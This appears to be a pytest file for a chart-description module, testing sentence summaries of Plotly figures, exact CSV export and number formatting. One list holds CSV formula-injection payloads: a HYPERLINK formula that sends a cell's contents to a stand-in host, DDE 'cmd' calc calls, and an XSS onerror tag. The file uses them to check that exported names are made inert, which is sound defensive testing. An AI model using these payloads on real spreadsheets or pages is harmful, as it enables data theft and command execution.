"""A figure in words and as CSV (core.viz.describe), on hand-worked figures: every number in the sentence is one
of the drawn arrays' own, and the CSV gives the drawn points back exactly."""

from __future__ import annotations

import csv
import io

import numpy as np
import plotly.graph_objects as go
import pytest

from core.viz import charts, describe


def waves() -> go.Figure:
    x = np.arange(4.0)
    return charts.lines([("up", x, np.array([0.0, 1.0, 2.0, 3.0])), ("down", x, np.array([5.0, 2.5, -1.0, -2.0]))],
                        title="Two lines<br><sup>a note</sup>", x_title="position", y_title="value")  # fmt: skip


def test_a_line_chart_says_its_series_axes_ranges_and_extremes():
    assert describe.figure_text(waves()) == (
        "Two lines a note. A line chart of 2 series (up, down) of 4 points each: position 0 to 3, value -2 to 5; "
        "highest: down 5 at position 0; lowest: down -2 at position 3."
    )


def test_one_series_names_no_series_and_a_flat_one_has_no_extremes():
    flat = charts.lines([("", np.arange(3.0), np.full(3, 0.5))], title="Flat", x_title="k", y_title="score")
    assert describe.figure_text(flat) == "Flat. A line chart of 3 points: k 0 to 2, score 0.5."


def test_invisible_helpers_are_not_described():
    x = np.arange(4.0)
    fig = charts.lines.fresh([("up", x, np.array([0.0, 1.0, 2.0, 3.0])), ("down", x, np.array([5.0, 2.5, -1.0, -2.0]))],
                             title="Two lines<br><sup>a note</sup>", x_title="position", y_title="value")  # fmt: skip
    fig.add_trace(go.Scatter(x=[None], y=[None], showlegend=False))  # a colour bar's carrier draws nothing
    fig.add_trace(go.Scatter(x=[0.0], y=[100.0], opacity=0))  # a see-through layer
    assert describe.figure_text(fig) == describe.figure_text(waves())


def test_nothing_drawn_is_said():
    assert describe.figure_text(go.Figure(layout=dict(title=dict(text="Empty")))) == "Empty. Nothing is drawn at these settings."


def test_the_csv_is_every_drawn_point_exactly():
    rows = list(csv.reader(io.StringIO(describe.figure_csv(waves()))))
    assert rows[0] == ["series", "position", "value"]
    assert [(r[0], float(r[1]), float(r[2])) for r in rows[1:]] == [("up", i, v) for i, v in enumerate([0, 1, 2, 3])] + [
        ("down", i, v) for i, v in enumerate([5, 2.5, -1, -2])
    ]


@pytest.mark.parametrize(
    ("x", "text", "padded"),
    [
        (1.0, "1", "1.000"),
        (10_000.0, "10,000", "10,000"),  # a whole number longer than the digits is written in full
        (131_072.0, "131,072", "131,072"),  # not 131,100: a position is exact
        (131_072.5, "131,100", "131,100"),
        (54_413.2, "54,410", "54,410"),  # 4 significant digits, thousands separated, never 5.441e+04
        (123_456_789_012.0, "123,456,789,012", "123,456,789,012"),
        (1e15, "1e+15", "1.000e+15"),  # from 1e15 on, scientific, its exponent as a hover writes it
        (0.1, "0.1", "0.1000"),
        (-0.99, "-0.99", "-0.9900"),
        (0.99999, "1", "1.000"),  # rounds up: one digit fewer after the point
        (57.29578, "57.3", "57.30"),
        (0.00012345, "0.0001234", "0.0001234"),  # 1e-4 is still written out
        (2.5e-7, "2.5e-7", "2.500e-7"),
        (-3.14159e-9, "-3.142e-9", "-3.142e-9"),
        (0.0, "0", "0"),
    ],
)
def test_the_one_number_rule_on_screen_and_in_a_sentence(x, text, padded):
    """core.viz.charts.number is the rule, describe.number its sentence form without padding zeros: a hand-written battery."""
    assert describe.number(x) == text and charts.number(x) == padded


HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "<img src=x onerror=alert(1)> & $x$"]  # fmt: skip


def test_a_hostile_series_name_is_written_as_text_never_as_a_formula():
    x = np.arange(3.0)
    series = [(charts.literal(name), x, np.array([-0.5, 0.0, 2.5])) for name in HOSTILE]  # as the model page names an upload's tensor
    text = describe.figure_csv(charts.lines(series, title="Hostile", x_title="=x", y_title="-y"))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["series", "'=x", "'-y"]
    words = [" ".join(name.split()) for name in HOSTILE]  # the name as written (its spaces as one, as in a title), made inert
    assert [r[0] for r in rows[1::3]] == ["'" + w for w in words[:-1]] + [words[-1]]
    assert all(float(r[2]) == v for r, v in zip(rows[1:], [-0.5, 0.0, 2.5] * len(HOSTILE)))
    assert "\n-0.5" not in text and ",-0.5\n" in text and ",'-0.5" not in text  # a negative number stays a bare number
    assert '"\'=HYPERLINK(""http://evil.example/?q=""&A1,""Click"")"' in text  # quoted, its quotes doubled
    assert "&amp;" not in text and "&lt;" not in text and "&#36;" not in text


@pytest.mark.parametrize("cell", [-0.5, "-0.5", "+1e-3", "-inf", 3, "position", "", "a=b"])
def test_numbers_and_plain_text_are_cells_as_they_are(cell):
    assert describe.csv_cell(cell) == cell


def test_a_name_made_literal_for_plotly_reads_as_written_in_words():
    fig = charts.lines([(charts.literal(HOSTILE[-1]), np.arange(3.0), np.arange(3.0))], title="T", x_title="x", y_title="y")
    assert describe.figure_text(fig) == f"T. A line chart of 3 points ({HOSTILE[-1]}): x 0 to 2, y 0 to 2; highest: 2 at x 2; lowest: 0 at x 0."


def test_the_range_sentence_names_the_largest_and_the_least_panel():
    """integer p over 40 positions runs 0 to 39, p/L 0 to 0.975: forty times smaller, still coloured on their one log range; NaN cells (no
    code) are left out, and a panel of equal size is said to compare."""
    p = np.arange(40.0)[:, None] * np.ones((1, 4))
    gap = np.where(np.arange(40)[:, None] < 20, p, np.nan)  # a table that ends at position 19
    assert describe.range_text([("integer", p), ("fraction", p / 40), ("cut", gap)]) == (
        "integer runs from 0 to 39 and fraction only from 0 to 0.975, 40 times smaller: on this log scale it still shows, paler."
    )
    said = describe.range_text([("a", -p / 5), ("b", p / 10)])
    assert said == "Every panel's largest size lies between 3.9 and 7.8, so the colours compare sizes across them."
    assert describe.range_text([("a", p)]) == "" and describe.range_text([("a", p), ("empty", np.full((2, 2), np.nan))]) == ""
    assert describe.range_text([("a", p), ("zero", 0 * p)]) == "zero is 0 everywhere drawn; a runs from 0 to 39."
